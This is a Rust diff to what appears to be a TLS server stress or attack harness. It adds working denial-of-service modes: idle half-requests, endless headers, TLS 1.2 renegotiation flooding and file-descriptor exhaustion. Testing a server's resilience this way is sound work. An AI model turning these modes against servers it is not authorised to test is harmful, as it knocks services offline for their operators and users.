@@ -13,11 +13,15 @@ use rustls::{ClientConfig, ClientConnection};
 use serde_json::{Value, json};
 use socket2::Socket;
 
+use super::renegotiation::Sealer;
 use crate::handshake::poll::{Poll, connected, dial};
 
 const TICK: Duration = Duration::from_millis(20);
 /// Between two bytes that drip.
 const DRIP: Duration = Duration::from_millis(200);
+/// Of a head without end, before others have their turn.
+const HEADERS_AT_ONCE: usize = 64;
+const RECORD_HEADER_BYTES: usize = 5;
 /// Before a slot connects again.
 const PAUSE: Duration = Duration::from_millis(100);
 
@@ -37,15 +41,23 @@ pub enum Kind {
     Fin,
     /// Bytes that are no TLS
     Garbage,
+    /// A whole handshake and half a request, then nothing
+    Idle,
     /// A request head without end
     HugeHead,
+    /// TLS 1.2, then requests to renegotiate
+    Renegotiate,
     /// A ClientHello, then a reset as soon as the server has signed, and again
     Flood,
+    /// Silent, unfinished and idle ones in turn, to use up the server's files: give it --connections
+    /// beyond what it may open
+    FdExhaustion,
     /// All of them in turn
     Mixed,
 }
 
-const SINGLE: [Kind; 9] = [
+const HOLDING: [Kind; 3] = [Kind::Silent, Kind::HelloThenSilence, Kind::Idle];
+const SINGLE: [Kind; 11] = [
     Kind::Silent,
     Kind::Drip,
     Kind::HalfHello,
@@ -53,7 +65,9 @@ const SINGLE: [Kind; 9] = [
     Kind::Rst,
     Kind::Fin,
     Kind::Garbage,
+    Kind::Idle,
     Kind::HugeHead,
+    Kind::Renegotiate,
     Kind::Flood,
 ];
 
@@ -87,7 +101,9 @@ impl Ends {
 struct Bad {
     socket: Socket,
     kind: Kind,
-    tls: ClientConnection,
+    /// None: its keys were taken out.
+    tls: Option<ClientConnection>,
+    sealer: Option<Sealer>,
     hello: Vec<u8>,
     sent: usize,
     begin: Instant,
@@ -96,10 +112,17 @@ struct Bad {
     shut: bool,
 }
 
+/// How the connections speak TLS.
+pub struct Configs {
+    pub usual: Arc<ClientConfig>,
+    /// TLS 1.2, with keys that can be taken out.
+    pub renegotiating: Arc<ClientConfig>,
+}
+
 /// Attacks with `count` connections until `stop`.
 pub fn run(
     target: SocketAddr,
-    config: &Arc<ClientConfig>,
+    configs: &Configs,
     kind: Kind,
     count: usize,
     stop: &AtomicBool,
@@ -113,12 +136,14 @@ pub fn run(
         for (token, slot) in (0_u64..).zip(&mut slots) {
             match slot {
                 Err(at) if *at <= now => {
+                    let turn = usize::try_from(token).unwrap_or(0);
                     let kind = match kind {
-                        Kind::Mixed => SINGLE[usize::try_from(token).unwrap_or(0) % SINGLE.len()],
+                        Kind::Mixed => SINGLE[turn % SINGLE.len()],
+                        Kind::FdExhaustion => HOLDING[turn % HOLDING.len()],
                         kind => kind,
                     };
                     ends.opened += 1;
-                    let made = Bad::start(target, config, kind)
+                    let made = Bad::start(target, configs, kind)
                         .and_then(|bad| poll.add(&bad.socket, token).map(|()| bad));
                     *slot = made.map_err(|error| {
                         ends.server(how(&error), Duration::ZERO);
@@ -127,7 +152,7 @@ pub fn run(
                     step(slot, &mut ends);
                 }
                 Err(_) => {}
-                // Only dripping and huge heads act by themselves.
+                // What drips or goes on and on acts by itself.
                 Ok(bad) if bad.next_drip <= now => step(slot, &mut ends),
                 Ok(_) => {}
             }
@@ -166,12 +191,16 @@ fn how(error: &io::Error) -> &'static str {
 }
 
 impl Bad {
-    fn start(target: SocketAddr, config: &Arc<ClientConfig>, kind: Kind) -> io::Result<Self> {
+    fn start(target: SocketAddr, configs: &Configs, kind: Kind) -> io::Result<Self> {
         let name = ServerName::IpAddress(target.ip().into());
+        let config = match kind {
+            Kind::Renegotiate => &configs.renegotiating,
+            _ => &configs.usual,
+        };
         let mut tls = ClientConnection::new(Arc::clone(config), name).map_err(io::Error::other)?;
         let mut hello = Vec::new();
         match kind {
-            Kind::Silent | Kind::HugeHead => {}
+            Kind::Silent | Kind::Idle | Kind::HugeHead => {}
             Kind::Garbage => hello = vec![0xA5; 1024],
             _ => drop(tls.write_tls(&mut hello)?),
         }
@@ -181,7 +210,9 @@ impl Bad {
         let begin = Instant::now();
         let socket = dial(target)?;
         let (sent, connected, shut) = (0, false, false);
-        Ok(Self { socket, kind, tls, hello, sent, begin, next_drip: begin, connected, shut })
+        let (tls, sealer) = (Some(tls), None);
+        let next_drip = begin;
+        Ok(Self { socket, kind, tls, sealer, hello, sent, begin, next_drip, connected, shut })
     }
 
     /// Whether it goes on; an error is how the server ended it.
@@ -193,8 +224,10 @@ impl Bad {
                 return Ok(true);
             }
         }
-        if self.kind == Kind::HugeHead {
-            return self.huge_head().map(|()| true);
+        match self.kind {
+            Kind::Idle | Kind::HugeHead => return self.request(),
+            Kind::Renegotiate if self.sent == self.hello.len() => return self.renegotiate(),
+            _ => {}
         }
         let most = if self.kind == Kind::Drip { self.sent + 1 } else { self.hello.len() };
         let part = &self.hello[self.sent..most.min(self.hello.len())];
@@ -211,6 +244,14 @@ impl Bad {
                 _ => {}
             }
         }
+        if self.kind == Kind::Renegotiate {
+            return Ok(true);
+        }
+        self.listen()
+    }
+
+    /// Takes what the server says and does not care.
+    fn listen(&mut self) -> io::Result<bool> {
         let mut buffer = [0; 4096];
         while let Some(length) = nothing_yet((&self.socket).read(&mut buffer))? {
             match length {
@@ -222,28 +263,73 @@ impl Bad {
         Ok(true)
     }
 
-    fn huge_head(&mut self) -> io::Result<()> {
-        while let Some(length) = nothing_yet(self.tls.read_tls(&mut &self.socket))? {
-            if length == 0 {
-                return Err(ErrorKind::UnexpectedEof.into());
-            }
-            let _ = self.tls.process_new_packets();
+    /// Half a request, or one that never ends.
+    fn request(&mut self) -> io::Result<bool> {
+        let Some(tls) = &mut self.tls else { return Ok(false) };
+        flush(tls, &self.socket)?;
+        handshake(tls, &self.socket)?;
+        flush(tls, &self.socket)?;
+        if tls.is_handshaking() {
+            return Ok(true);
         }
-        if !self.tls.is_handshaking() {
-            if self.sent == 0 {
-                self.tls.writer().write_all(b"GET / HTTP/1.1\r\n")?;
-            }
-            self.sent += 1;
-            self.tls.writer().write_all(&[b'x'; 1000])?;
-            self.tls.writer().write_all(b": y\r\n")?;
+        if self.sent == 0 {
+            tls.writer().write_all(b"GET / HTTP/1.1\r\n")?;
+            self.sent = 1;
         }
-        while self.tls.wants_write() {
-            if nothing_yet(self.tls.write_tls(&mut &self.socket))?.is_none() {
-                break;
+        flush(tls, &self.socket)?;
+        if self.kind == Kind::HugeHead {
+            for _ in 0..HEADERS_AT_ONCE {
+                if tls.wants_write() {
+                    break;
+                }
+                tls.writer().write_all(&[b'x'; 1000])?;
+                tls.writer().write_all(b": y\r\n")?;
+                flush(tls, &self.socket)?;
             }
         }
-        Ok(())
+        Ok(true)
     }
+
+    /// Finishes the handshake, then asks for another, again and again.
+    fn renegotiate(&mut self) -> io::Result<bool> {
+        if let Some(tls) = &mut self.tls {
+            flush(tls, &self.socket)?;
+            handshake(tls, &self.socket)?;
+            flush(tls, &self.socket)?;
+            if tls.is_handshaking() || tls.wants_write() {
+                return Ok(true);
+            }
+            self.sealer = self.tls.take().and_then(Sealer::of);
+        }
+        let Some(sealer) = &mut self.sealer else { return Ok(false) };
+        let hello = self.hello.get(RECORD_HEADER_BYTES..).unwrap_or_default();
+        let Some(record) = sealer.handshake(hello) else { return Ok(false) };
+        match nothing_yet((&self.socket).write(&record))? {
+            // A record that went out in part can not be mended; a full socket only waits.
+            Some(length) if length < record.len() => Ok(false),
+            _ => self.listen(),
+        }
+    }
+}
+
+/// Takes what came, as TLS.
+fn handshake(tls: &mut ClientConnection, mut socket: &Socket) -> io::Result<()> {
+    while let Some(length) = nothing_yet(tls.read_tls(&mut socket))? {
+        if length == 0 {
+            return Err(ErrorKind::UnexpectedEof.into());
+        }
+        let _ = tls.process_new_packets();
+    }
+    Ok(())
+}
+
+fn flush(tls: &mut ClientConnection, mut socket: &Socket) -> io::Result<()> {
+    while tls.wants_write() {
+        if nothing_yet(tls.write_tls(&mut socket))?.is_none() {
+            break;
+        }
+    }
+    Ok(())
 }
 
 /// None instead of "not now".
